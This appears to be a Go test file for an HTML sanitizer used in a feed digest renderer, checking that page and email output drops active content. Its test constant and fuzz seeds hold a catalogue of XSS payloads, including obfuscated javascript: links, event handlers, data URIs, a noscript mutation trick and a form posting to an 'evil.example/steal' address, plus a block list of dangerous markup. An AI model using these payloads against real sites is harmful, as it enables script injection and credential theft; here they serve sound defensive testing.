package render

import (
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
)

// hostile packs the usual attacks between two benign sentences.
const hostile = `<p>Before the storm.</p>
<script>alert(1)</script>
<img src="x" onerror="alert(2)">
<body onload="alert(3)">
<p onclick="alert(4)">Click text</p>
<a href="javascript:alert(5)">js link</a>
<a href="JaVaScRiPt:alert(6)">mixed case</a>
<a href="jav&#x61;script:alert(7)">entity link</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">decimal entities</a>
<a href="java&#x09;script:alert(9)">tab</a>
<a href=" javascript:alert(10)">leading space</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">data link</a>
<a href="vbscript:msgbox(12)">vb</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==">
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(14)</script>"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(15)">Go</button></form>
<svg onload="alert(16)"><circle r="1"/></svg>
<math><mtext><script>alert(17)</script></mtext></math>
<style>body{background:url(javascript:alert(18))}</style>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=javascript:alert(19)">
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<div style="background:url(javascript:alert(20))">styled</div>
<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>
<p>After the storm.</p>`

// checkSafe fails the test when html carries anything active, and returns
// the parsed document for further checks.
func checkSafe(t *testing.T, out string) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "javascript:", "vbscript:", "data:", "alert(", "<iframe", "<form", "<svg", "<object", "<embed", "<math", "<base", "http-equiv"} {
		if strings.Contains(lower, bad) {
			t.Errorf("output contains %q", bad)
		}
	}
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			if strings.HasPrefix(strings.ToLower(a.Key), "on") {
				t.Errorf("<%s> keeps event handler %s=%q", s.Nodes[0].Data, a.Key, a.Val)
			}
		}
	})
	if n := doc.Find("style").Length(); n > 1 {
		t.Errorf("%d <style> elements, want at most our own", n)
	}
	return doc
}

func TestSanitizeHostile(t *testing.T) {
	out := SanitizeHTML(hostile, "https://blog.example.org/post")
	doc := checkSafe(t, out)
	text := doc.Text()
	for _, want := range []string{"Before the storm.", "After the storm.", "Click text", "js link", "entity link", "styled"} {
		if !strings.Contains(text, want) {
			t.Errorf("benign text %q lost; got %q", want, text)
		}
	}
	// The frames (iframe, object, embed) left links to what they showed,
	// and nothing else kept a link.
	frames := 0
	doc.Find("a[href]").Each(func(_ int, a *goquery.Selection) {
		if !strings.HasPrefix(a.Parent().Text(), "Embedded page: ") || !strings.HasPrefix(a.AttrOr("href", ""), "https://evil.example/") {
			t.Errorf("a dangerous link kept its href: %s", out)
		}
		frames++
	})
	if frames != 3 {
		t.Errorf("%d links where the 3 frames with an address were: %s", frames, out)
	}
	if doc.Find("iframe, object, embed").Length() != 0 {
		t.Errorf("embedded evil.example survived: %s", out)
	}
}

func TestHostileEntryInPageAndEmail(t *testing.T) {
	d := sampleDigest(t)
	d.Groups[0].Entries[0].Content = hostile
	d.Groups[0].Entries[0].Title = `<script>alert(0)</script>Storm <img src=x onerror=alert(0)>report`
	d.Groups[0].Entries[0].Author = `<b onmouseover="alert(0)">Mallory</b>`
	d.Groups[0].SiteURL = "javascript:alert(0)"
	d.Groups[0].Entries[1].Link = "javascript:alert(0)"
	page, err := DigestPage(d)
	if err != nil {
		t.Fatal(err)
	}
	doc := checkSafe(t, string(page))
	if got := doc.Find("h3").First().Text(); got != "Storm report" {
		t.Errorf("display title = %q, want %q", got, "Storm report")
	}
	for _, want := range []string{"Before the storm.", "After the storm.", "Mallory"} {
		if !strings.Contains(doc.Text(), want) {
			t.Errorf("page lost benign text %q", want)
		}
	}
	html := emailHTML(t, d)
	checkSafe(t, html)
	if !strings.Contains(html, "Before the storm.") {
		t.Error("email lost the benign excerpt")
	}
}

func TestSanitizeLinksGetRel(t *testing.T) {
	in := `<a href="https://a.example/" rel="nofollow">a</a><a href="mailto:x@example.org" rel="opener">m</a><a name="n">no href</a><a href="/rel">r</a>`
	doc := parseHTML(t, SanitizeHTML(in, "https://blog.example.org/x"))
	links := doc.Find("a[href]")
	if links.Length() != 3 {
		t.Fatalf("%d links, want 3", links.Length())
	}
	links.Each(func(_ int, a *goquery.Selection) {
		if rel := a.AttrOr("rel", ""); rel != relSafe {
			t.Errorf("%s: rel=%q, want %q", a.AttrOr("href", ""), rel, relSafe)
		}
	})
}

func TestSanitizeResolvesRelativeURLs(t *testing.T) {
	in := `<a href="/about">a</a><a href="../up">b</a><a href="#top">c</a><a href="//cdn.example/x">d</a>` +
		`<img src="img/cat.png" alt="cat"><blockquote cite="/source">q</blockquote>`
	doc := parseHTML(t, SanitizeHTML(in, "https://blog.example.org/posts/hello"))
	var hrefs []string
	doc.Find("a").Each(func(_ int, a *goquery.Selection) { hrefs = append(hrefs, a.AttrOr("href", "")) })
	want := []string{
		"https://blog.example.org/about",
		"https://blog.example.org/up",
		"https://blog.example.org/posts/hello#top",
		"https://cdn.example/x",
	}
	if strings.Join(hrefs, " ") != strings.Join(want, " ") {
		t.Errorf("hrefs = %q, want %q", hrefs, want)
	}
	if src := doc.Find("img").AttrOr("src", ""); src != "https://blog.example.org/posts/img/cat.png" {
		t.Errorf("img src = %q", src)
	}
	if cite := doc.Find("blockquote").AttrOr("cite", ""); cite != "https://blog.example.org/source" {
		t.Errorf("cite = %q", cite)
	}
}

func TestSanitizeWithoutBaseDropsRelativeURLs(t *testing.T) {
	doc := parseHTML(t, SanitizeHTML(`<a href="/about">about</a><img src="cat.png"><a href="https://ok.example/">ok</a>`, ""))
	if n := doc.Find("a[href]").Length(); n != 1 {
		t.Errorf("%d links with href, want only the absolute one", n)
	}
	if doc.Find("img").Length() != 0 {
		t.Error("an image with an unresolvable src was kept")
	}
	if !strings.Contains(doc.Text(), "about") {
		t.Error("link text lost with its href")
	}
}

func TestEntryURL(t *testing.T) {
	cases := []struct{ feed, link, want string }{
		{"https://ex.org/blog/feed.xml", "/posts/1", "https://ex.org/posts/1"},
		{"https://ex.org/blog/feed.xml", "post-2.html", "https://ex.org/blog/post-2.html"},
		{"https://ex.org/feed", "https://other.org/a", "https://other.org/a"},
		{"https://ex.org/feed", "javascript:alert(1)", ""},
		{"https://ex.org/feed", "", ""},
		{"", "/relative", ""},
		// Shown without tracking parameters, the rest as the feed gives it.
		{"https://ex.org/feed", "/p?id=7&utm_source=rss&utm_medium=feed&fbclid=x#more", "https://ex.org/p?id=7#more"},
	}
	for _, c := range cases {
		if got := EntryURL(c.feed, c.link); got != c.want {
			t.Errorf("EntryURL(%q, %q) = %q, want %q", c.feed, c.link, got, c.want)
		}
	}
}

func TestSanitizeDropsTrackingPixels(t *testing.T) {
	in := `<p>Text</p>` +
		`<img src="https://t.example/a.gif" width="1" height="1">` +
		`<img src="https://t.example/b.gif" width="1px" height="1px">` +
		`<img src="https://t.example/c.gif" width="0" height="0">` +
		`<img src="https://t.example/d.gif" style="width:1px;height:1px">` +
		`<img src="https://t.example/e.gif" width="1" style="height: 1px !important">` +
		`<img src="https://ok.example/wide.png" width="1" height="400">` +
		`<img src="https://ok.example/photo.jpg" width="640" height="480">` +
		`<img src="https://ok.example/nosize.jpg">`
	out := SanitizeHTML(in, "")
	if strings.Contains(out, "t.example") {
		t.Errorf("a tracking pixel survived: %s", out)
	}
	for _, keep := range []string{"wide.png", "photo.jpg", "nosize.jpg", "Text"} {
		if !strings.Contains(out, keep) {
			t.Errorf("%s was dropped: %s", keep, out)
		}
	}
}

func TestSanitizeKeepsOrdinaryMarkup(t *testing.T) {
	in := `<h2 id="archive">Title</h2><p><em>e</em> <strong>s</strong> <code>c</code></p><ul><li>one</li></ul><pre>x := 1</pre><blockquote>q</blockquote><table><tr><td>cell</td></tr></table>`
	doc := parseHTML(t, SanitizeHTML(in, ""))
	if doc.Find("[id]").Length() != 0 {
		t.Error("content ids kept; they could clash with the page's anchors")
	}
	for _, sel := range []string{"h2", "em", "strong", "code", "ul li", "pre", "blockquote", "td"} {
		if doc.Find(sel).Length() == 0 {
			t.Errorf("%s was removed", sel)
		}
	}
	if SanitizeHTML("   ", "") != "" {
		t.Error("blank input should give empty output")
	}
}

func TestSanitizeDemotesHeadings(t *testing.T) {
	in := `<h2>a</h2><h3>b</h3><h5>c</h5><h1>d</h1>`
	if out := SanitizeHTML(in, ""); out != in {
		t.Errorf("SanitizeHTML changed the headings: %s", out)
	}
	doc := parseHTML(t, sanitize(in, "", 4))
	var got []string
	doc.Find("h1, h2, h3, h4, h5, h6").Each(func(_ int, h *goquery.Selection) {
		got = append(got, h.Nodes[0].Data+":"+h.Text())
	})
	if want := "h5:a h6:b h6:c h4:d"; strings.Join(got, " ") != want {
		t.Errorf("headings %v, want %s", got, want)
	}
}

func parseHTML(t testing.TB, s string) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// FuzzSanitize checks the promises of SanitizeHTML on any input: nothing
// that runs, only http(s)/mailto URLs without user information, rel on
// every link, no image map, no control or noncharacter.
func FuzzSanitize(f *testing.F) {
	for _, seed := range []string{
		hostile,
		`<a href="/x">x</a>`,
		`<img src=x onerror=alert(1)>`,
		`<a href="jav&#x61;script:alert(1)">x</a>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<a href="https://ex.org/" rel="opener" target="_blank">x</a>`,
		`<p>plain &amp; simple</p>`,
		`<table><a href="https://ex.org/">foster</a><tr><td>x</td></tr></table>`,
		`<noscript><a href="javascript:alert(1)">x</a></noscript>`,
		`<a href="https://ex.org/"><a href="javascript:x">nested</a></a>`,
		`<img src="p.png" usemap="#m"><map name="m"><area href="https://evil.example/" coords="0,0,9,9"><p>in</p></map>`,
		`<a href="https://paypal.com@evil.example/">pay</a><img src="//u:p@evil.example/i.png">`,
		"<p title=\"\x01\uFFFE\">x\x1b&#1;&#xFFFF;\xff</p><a href=\"mailto:a\uFFFE@b.example\">m</a>",
	} {
		f.Add(seed, "https://blog.example.org/post")
	}
	f.Fuzz(func(t *testing.T, raw, base string) {
		out := SanitizeHTML(raw, base)
		if strings.Contains(strings.ToLower(out), "<script") {
			t.Fatalf("<script in output: %q", out)
		}
		checkNoDirt(t, "SanitizeHTML", []byte(out))
		doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		doc.Find("*").Each(func(_ int, s *goquery.Selection) {
			checkNode(t, s)
		})
	})
}

// checkNode asserts the per-element invariants of sanitised output.
func checkNode(t *testing.T, s *goquery.Selection) {
	n := s.Nodes[0]
	switch n.Data {
	case "script", "style", "iframe", "form", "object", "embed", "svg", "math", "base", "meta", "link", "map", "area":
		t.Fatalf("<%s> in output", n.Data)
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		if strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "usemap" {
			t.Fatalf("<%s %s=%q> in output", n.Data, a.Key, a.Val)
		}
		if key == "href" || key == "src" || key == "cite" {
			checkURL(t, n.Data, a.Val)
			checkNoUserinfo(t, n.Data, a.Val)
		}
	}
	if n.Data == "a" && s.AttrOr("href", "") != "" {
		if rel := s.AttrOr("rel", ""); rel != relSafe {
			t.Fatalf("<a href=%q rel=%q>", s.AttrOr("href", ""), rel)
		}
	}
}

func checkURL(t *testing.T, el, v string) {
	u, err := url.Parse(v)
	if err != nil {
		t.Fatalf("<%s> unparseable URL %q", el, v)
	}
	switch strings.ToLower(u.Scheme) {
	case "http", "https", "mailto":
	default:
		t.Fatalf("<%s> URL %q has scheme %q", el, v, u.Scheme)
	}
}
